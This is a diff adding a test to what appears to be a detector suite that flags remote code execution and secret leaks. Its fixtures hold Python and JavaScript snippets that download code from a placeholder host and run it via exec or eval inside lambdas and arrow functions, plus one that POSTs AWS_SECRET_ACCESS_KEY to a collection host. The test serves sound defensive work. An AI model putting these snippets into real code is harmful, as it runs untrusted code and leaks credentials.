@@ -1532,6 +1532,36 @@ Deno.test("a download written to the stdin of a shell a script started is run", 
   ]);
 });
 
+Deno.test("a download run by a function written as one expression is run: a lambda or an arrow bound to a name or called where it is written, and a comprehension's variable", () => {
+  const py = "import urllib.request\n" +
+    'src = urllib.request.urlopen("https://get.example.net/x").read()\n';
+  assertRunsOnlyIn(py, "py", [
+    "run = lambda c: exec(c)\nrun(src)\n",
+    "(lambda c: exec(c))(src)\n",
+    "[exec(s) for s in [src]]\n",
+  ], [
+    "run = lambda c: print(c)\nrun(src)\n",
+    'run = lambda c: exec(c)\nrun("print(1)")\n',
+    "(lambda c: exec(c))('print(1)')\n",
+    "[exec(s) for s in ['print(1)']]\n",
+    "n = [len(s) for s in [src]]\n",
+  ]);
+  const js = 'const code = await (await fetch("https://get.example.net/x")).text();\n';
+  assertRunsOnlyIn(js, "mjs", [
+    "const run = (c) => eval(c);\nrun(code);\n",
+    "const run = async (c) => eval(c);\nawait run(code);\n",
+    "((c) => eval(c))(code);\n",
+  ], [
+    "const show = (c) => console.log(c);\nshow(code);\n",
+    'const run = (c) => eval(c);\nrun("1 + 1");\n',
+    '((c) => eval(c))("1 + 1");\n',
+  ]);
+  // A one-expression function's own body is read too: a key it sends is sent.
+  const send = "const send = () =>\n" +
+    '  fetch("https://collect.example.org", { method: "POST", body: process.env.AWS_SECRET_ACCESS_KEY });\n';
+  assert.deepEqual(secretSeverities("scripts/s.mjs", send), ["critical"]);
+});
+
 Deno.test("shell: what printenv NAME and declare -p print is the variables they name or all of them", () => {
   const critical = (text: string) => secretSeverities("scripts/s.sh", `#!/bin/bash\n${text}`);
   assert.deepEqual(
